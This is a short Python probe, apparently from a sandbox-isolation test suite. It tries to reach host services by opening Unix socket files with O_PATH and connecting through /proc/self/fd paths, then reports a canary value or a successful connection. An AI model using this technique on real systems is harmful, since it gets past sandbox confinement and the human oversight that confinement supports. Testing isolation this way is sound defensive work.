# name: connect to a service of the host through a descriptor of its socket's file
# line: 67
# finding: 3
import os
import socket

from attack import STAGE, canary_in, try_each


def reached(path):
    descriptor = os.open(path, os.O_PATH)
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(3)
            one.connect(f"/proc/self/fd/{descriptor}")
            return canary_in(one.recv(100)) or "connected"
    finally:
        os.close(descriptor)


try_each([(key, lambda key=key: reached(STAGE[key])) for key in ("socket_home", "socket_tmp", "socket_run")
          if STAGE[key]])
